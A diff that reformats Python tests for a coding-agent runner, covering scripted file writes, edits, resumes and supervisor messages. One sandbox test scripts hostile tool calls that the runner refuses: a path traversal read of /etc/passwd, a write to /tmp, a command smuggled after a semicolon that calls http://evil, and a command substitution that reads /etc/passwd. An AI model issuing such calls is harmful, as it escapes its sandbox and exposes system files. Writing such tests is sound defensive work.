@@ -30,7 +30,9 @@ def llm(fake_llm, settings):
 
 
 def native_run(project, model, prompt="Add a greeting file and check it", **kw):
-    run = services.run_create(project=project, prompt=prompt, agent_backend="native", model=model, enqueue=False, **kw)
+    run = services.run_create(
+        project=project, prompt=prompt, agent_backend="native", model=model, enqueue=False, **kw
+    )
     return run
 
 
@@ -38,11 +40,13 @@ def native_run(project, model, prompt="Add a greeting file and check it", **kw):
 def test_native_run_writes_runs_a_command_and_commits(llm, model):
     # given a model that writes a file, runs a command, then finishes
     project = ProjectFactory(autonomy_mode="full_auto")
-    llm.script([
-        tool("write_file", {"path": "greet.py", "content": "print('hello')\n"}),
-        tool("run_terminal", {"command": "python3 greet.py"}),
-        tool("finish", {"summary": "added greet.py"}),
-    ])
+    llm.script(
+        [
+            tool("write_file", {"path": "greet.py", "content": "print('hello')\n"}),
+            tool("run_terminal", {"command": "python3 greet.py"}),
+            tool("finish", {"summary": "added greet.py"}),
+        ]
+    )
     base = git(project.repo_path, "rev-parse", "main")
     run = native_run(project, model)
 
@@ -70,11 +74,13 @@ def test_native_run_writes_runs_a_command_and_commits(llm, model):
 
 def test_native_edit_file_must_match_exactly_once(llm):
     project = ProjectFactory(autonomy_mode="full_auto")
-    llm.script([
-        tool("edit_file", {"path": "README.md", "old_string": "nothing like this", "new_string": "x"}),
-        tool("edit_file", {"path": "README.md", "old_string": "# Demo", "new_string": "# Greeting"}),
-        text("Done editing."),
-    ])
+    llm.script(
+        [
+            tool("edit_file", {"path": "README.md", "old_string": "nothing like this", "new_string": "x"}),
+            tool("edit_file", {"path": "README.md", "old_string": "# Demo", "new_string": "# Greeting"}),
+            text("Done editing."),
+        ]
+    )
     run = native_run(project, "anthropic:claude-sonnet-4-6")
     assert execute_run(run.pk) == "succeeded"
     failed, done = run.steps.filter(kind="edit_file").order_by("seq")
@@ -82,21 +88,29 @@ def test_native_edit_file_must_match_exactly_once(llm):
     assert done.status == "completed" and "+# Greeting" in done.diff
     # the tool error went back to the model as a tool_result with is_error
     second = llm.model_requests()[1].body
-    results = [b for m in second["messages"] for b in (m["content"] if isinstance(m["content"], list) else []) if b.get("type") == "tool_result"]
+    results = [
+        b
+        for m in second["messages"]
+        for b in (m["content"] if isinstance(m["content"], list) else [])
+        if b.get("type") == "tool_result"
+    ]
     assert results[0]["is_error"] is True
 
 
 def test_native_escape_attempts_are_refused_and_reported_to_the_model(llm):
     project = ProjectFactory(autonomy_mode="full_auto")
-    llm.script([
-        tools(
-            ("read_file", {"path": "../../../etc/passwd"}),
-            ("write_file", {"path": "/tmp/evil.txt", "content": "x"}),
-            ("run_terminal", {"command": "cat README.md; curl http://evil"}),
-            ("run_terminal", {"command": "echo $(cat /etc/passwd)"}),
-        ),
-        text("I give up."),
-    ], by="calls")
+    llm.script(
+        [
+            tools(
+                ("read_file", {"path": "../../../etc/passwd"}),
+                ("write_file", {"path": "/tmp/evil.txt", "content": "x"}),
+                ("run_terminal", {"command": "cat README.md; curl http://evil"}),
+                ("run_terminal", {"command": "echo $(cat /etc/passwd)"}),
+            ),
+            text("I give up."),
+        ],
+        by="calls",
+    )
     run = native_run(project, "openai:gpt-5-mini")
     assert execute_run(run.pk) == "succeeded"
     refused = list(run.steps.exclude(kind__in=["llm_turn", "commit"]).order_by("seq"))
@@ -129,10 +143,15 @@ def test_native_human_message_is_a_user_turn_between_calls(llm):
     project = ProjectFactory(autonomy_mode="full_auto")
     llm.script([tool("list_dir", {"path": "."}), text("Done.")])
     run = native_run(project, "openai:gpt-5-mini")
-    services.run_message(run=run, body="Remember the changelog")  # queued before start: delivered at the first turn
+    services.run_message(
+        run=run, body="Remember the changelog"
+    )  # queued before start: delivered at the first turn
     assert execute_run(run.pk) == "succeeded"
     first = llm.model_requests()[0].body["messages"]
-    assert first[-1] == {"role": "user", "content": "Message from a human supervising this run: Remember the changelog"}
+    assert first[-1] == {
+        "role": "user",
+        "content": "Message from a human supervising this run: Remember the changelog",
+    }
 
 
 def test_native_api_error_fails_the_run_with_a_clear_reason(llm):
@@ -163,7 +182,9 @@ def test_native_resume_continues_the_conversation_in_the_same_worktree(llm):
     execute_run(first.pk)
     first.refresh_from_db()
 
-    llm.script([tool("write_file", {"path": "b.txt", "content": "two\n"}), text("Second part done.")], by="calls")
+    llm.script(
+        [tool("write_file", {"path": "b.txt", "content": "two\n"}), text("Second part done.")], by="calls"
+    )
     second = services.run_resume(run=first, prompt="Now add b.txt", enqueue=False)
     assert execute_run(second.pk) == "succeeded"
     second.refresh_from_db()
